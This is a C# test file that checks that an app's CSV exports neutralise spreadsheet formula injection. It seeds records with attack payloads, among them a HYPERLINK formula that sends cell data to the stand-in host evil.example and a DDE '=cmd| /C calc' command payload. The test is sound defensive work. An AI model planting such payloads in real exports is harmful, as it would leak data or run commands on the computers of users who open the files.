using System.Globalization;
using System.Net;
using System.Reflection;
using CsvHelper;
using Evenhand.Common;
using Evenhand.SocialMedia.Datasets;
using Evenhand.Tests.Infrastructure;
using Microsoft.AspNetCore.Mvc.RazorPages;
using Microsoft.AspNetCore.Routing;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;

namespace Evenhand.Tests.Web;

/// <summary>
/// Every CSV the app serves, found from the app itself (page models with a CSV handler, API routes ending ".csv"), read as
/// a spreadsheet would after formula payloads were typed into the records behind it: no cell may start a formula.
/// </summary>
public sealed class CsvInjectionTests
{
    public static TheoryData<string> Providers => TestDatabases.Providers;

    /// <summary>Characters that make a spreadsheet evaluate a cell (OWASP, "CSV injection").</summary>
    private static readonly char[] FormulaStarts = ['=', '+', '-', '@', '\t', '\r'];

    /// <summary>
    /// Where each page with a CSV handler is, and who may read it. A new CSV handler fails the test until it is listed here.
    /// Pages are visited and every "handler=Csv" link on them is downloaded, so each table's CSV is covered.
    /// </summary>
    private static readonly Dictionary<string, (string Email, Func<Ids, string[]> Urls)> CsvPages = new()
    {
        ["Forces.Governance.Policies.IndexModel"] = (Governance, _ => ["/forces/cheshire/governance/policies"]),
        ["Forces.Governance.PoliticalContacts.IndexModel"] = (Governance, _ => ["/forces/cheshire/governance/political-contacts"]),
        ["Forces.Governance.Events.IndexModel"] = (Governance, _ => ["/forces/cheshire/governance/events"]),
        ["Forces.Governance.AdvisoryGroups.IndexModel"] = (Governance, _ => ["/forces/cheshire/governance/advisory-groups"]),
        ["Forces.Governance.VisibleRepresentations.IndexModel"] = (Governance, _ => ["/forces/cheshire/governance/visible-representations"]),
        ["Forces.Governance.HorizonScan.IndexModel"] = (Governance, _ => ["/forces/cheshire/governance/horizon-scan"]),
        ["Forces.Governance.StaffNetworks.IndexModel"] = (Governance, _ => ["/forces/cheshire/governance/staff-networks"]),
        ["Forces.HateIncidents.IndexModel"] = (Registrar, _ => ["/forces/cheshire/hate-incidents"]),
        ["Forces.HateIncidents.Analysis.IndexModel"] = (Registrar, _ => ["/forces/cheshire/hate-incidents/analysis"]),
        ["National.IndexModel"] = (Inspectorate, _ => ["/national"]),
        ["National.Section55Model"] = (Inspectorate, i => [$"/national/section55?inspection={i.Inspection}"]),
        ["SocialMedia.DashboardModel"] = (Inspectorate, i => [$"/social-media/{i.NationalDataset}", $"/forces/cheshire/social-media/{i.ForceDataset}"]),
        ["SocialMedia.PostsModel"] = (Inspectorate, i => [$"/social-media/{i.NationalDataset}/posts"]),
        ["SocialMedia.SamplesModel"] = (Inspectorate, i => [$"/social-media/{i.NationalDataset}/samples"]),
        ["SocialMedia.ReviewModel"] = (Inspectorate, i => [$"/social-media/{i.NationalDataset}/samples/{i.Sample}"]),
    };

    private const string Governance = "governance.cheshire@demo.evenhand.test";
    private const string Registrar = "registrar.cheshire@demo.evenhand.test";
    private const string Inspectorate = "inspectorate@demo.evenhand.test";

    private sealed record Ids(int Inspection, int NationalDataset, int ForceDataset, int Sample);

    [SkippableTheory, MemberData(nameof(Providers))]
    public async Task EveryCsv_AfterFormulaPayloads_HasNoCellThatStartsAFormula(string provider)
    {
        TestDatabases.SkipIfUnavailable(provider);
        using var app = new EvenhandApp(provider);
        _ = app.Server;

        // The app's own list of CSV handlers and routes, against this test's table.
        var pageModels = typeof(Program).Assembly.GetTypes()
            .Where(t => typeof(PageModel).IsAssignableFrom(t) && t.GetMethods(BindingFlags.Public | BindingFlags.Instance).Any(m => m.Name.StartsWith("OnGetCsv", StringComparison.Ordinal)))
            .Select(t => t.FullName!["Evenhand.Web.Pages.".Length..])
            .Order().ToList();
        Assert.Equal(CsvPages.Keys.Order(), pageModels);
        var csvRoutes = app.Services.GetRequiredService<EndpointDataSource>().Endpoints.OfType<RouteEndpoint>()
            .Select(e => e.RoutePattern.RawText!).Where(p => p.EndsWith(".csv", StringComparison.Ordinal)).Distinct().ToList();
        Assert.Equal(["/public/{slug}/responses/{inspectionId:int}/statuses.csv"], csvRoutes);

        var ids = await SeedPayloadsAsync(app);

        var urls = new List<(string Email, string Url)>();
        foreach (var (_, (email, pages)) in CsvPages)
        {
            using var client = await app.SignedInAsync(email);
            foreach (var pageUrl in pages(ids))
            {
                var page = await client.GetPageAsync(pageUrl);
                var baseUri = new Uri(new Uri("http://localhost"), pageUrl);
                var links = page.QuerySelectorAll("a[href*='handler=Csv']").Select(a => new Uri(baseUri, a.GetAttribute("href")!).PathAndQuery).Distinct().ToList();
                Assert.True(links.Count > 0, $"{pageUrl} offers no CSV link");
                urls.AddRange(links.Select(l => (email, l)));
            }
        }

        urls.Add(("", $"/public/cheshire/responses/{ids.Inspection}/statuses.csv"));
        var escaped = 0;
        foreach (var (email, url) in urls)
        {
            using var client = email.Length == 0 ? app.Client() : await app.SignedInAsync(email);
            var response = await client.GetAsync(url);
            Assert.True(response.StatusCode == HttpStatusCode.OK, $"{url}: {response.StatusCode}");
            Assert.True(response.Content.Headers.ContentType?.MediaType == "text/csv", $"{url}: {response.Content.Headers.ContentType}");
            using var reader = new CsvReader(new StringReader(await response.Content.ReadAsStringAsync()), CultureInfo.InvariantCulture);
            while (await reader.ReadAsync())
            {
                for (var i = 0; reader.TryGetField<string>(i, out var cell); i++)
                {
                    if (cell is { Length: > 0 } && FormulaStarts.Contains(cell[0]))
                    {
                        Assert.True(double.TryParse(cell, NumberStyles.Float, CultureInfo.InvariantCulture, out _), $"{url}: a cell starts a formula: {cell}");
                    }

                    if (cell is { Length: > 1 } && cell[0] == '\'' && FormulaStarts.Contains(cell[1]))
                    {
                        escaped++;
                    }
                }
            }
        }

        // The payloads did reach the exports (as text, escaped): the test is not passing on empty files.
        Assert.True(escaped >= 10, $"only {escaped} escaped formula cells across {urls.Count} CSV downloads");
    }

    /// <summary>Formula payloads in the text behind every export, as a user or an imported file could put them there.</summary>
    private static async Task<Ids> SeedPayloadsAsync(EvenhandApp app)
    {
        await using var db = app.CreateDbContext();
        var inspection = await db.Inspections.Select(i => i.Id).FirstAsync();
        var cheshire = await db.Forces.Where(f => f.Slug == "cheshire").Select(f => f.Id).SingleAsync();
        var national = await db.SocialDatasets.Where(d => d.ForceId == null && d.Status == DatasetStatus.Ready).Select(d => d.Id).FirstAsync();
        var forceDataset = await db.SocialDatasets.Where(d => d.ForceId == cheshire && d.Status == DatasetStatus.Ready).Select(d => d.Id).FirstAsync();

        // Publish Cheshire's response so the public CSV exists.
        using (var pcc = await app.SignedInAsync("pcc.cheshire@demo.evenhand.test"))
        {
            await Evenhand.Tests.Responses.Section55Journey.CompleteAsync(pcc, "cheshire", inspection);
            Assert.Equal(HttpStatusCode.Redirect, (await Evenhand.Tests.Responses.Section55Journey.PublishAsync(pcc, "cheshire", inspection)).StatusCode);
        }

        const string link = "=HYPERLINK(\"https://evil.example/?d=\"&A1,\"Open\")";
        foreach (var sql in new[]
                 {
                     $"UPDATE \"PolicyDocuments\" SET \"Title\" = '{link.Replace("'", "''", StringComparison.Ordinal)}', \"Owner\" = '+SUM(1,1)'",
                     "UPDATE \"PoliticalContacts\" SET \"WhatWasAsked\" = '@SUM(1,1)', \"SourceName\" = '-2+3'",
                     "UPDATE \"PolicedEvents\" SET \"Name\" = '=1+1'",
                     "UPDATE \"ContentiousIssues\" SET \"Issue\" = '=1+1'",
                     "UPDATE \"AdvisoryGroups\" SET \"Name\" = '=1+1', \"Chair\" = '+1+1'",
                     "UPDATE \"StaffNetworks\" SET \"Name\" = '=1+1', \"Chair\" = '@A1'",
                     "UPDATE \"VisibleRepresentations\" SET \"Description\" = '=1+1', \"Cause\" = '-1+1'",
                     "UPDATE \"HateIncidents\" SET \"Area\" = '=AREA(1)'",
                     "UPDATE \"SocialPosts\" SET \"Text\" = '=cmd|'' /C calc''!A0 pride'",
                     "UPDATE \"SocialAccounts\" SET \"Handle\" = '@handle', \"FullName\" = '=1+1'",
                     "UPDATE \"Section55Item\" SET \"Text\" = '=1+1'",
                 })
        {
            await db.Database.ExecuteSqlRawAsync(sql);
        }

        using var scope = app.Services.CreateScope();
        var samples = scope.ServiceProvider.GetRequiredService<DipSampleService>();
        var keyword = await db.SocialPostKeywords.Where(k => k.DatasetId == national).Select(k => k.Keyword).FirstAsync();
        var sample = await samples.DrawAsync(national, keyword, 5, 1, new ProcessContext("test", "Test", TestClock.Now), default);
        return new Ids(inspection, national, forceDataset, sample.Id);
    }
}
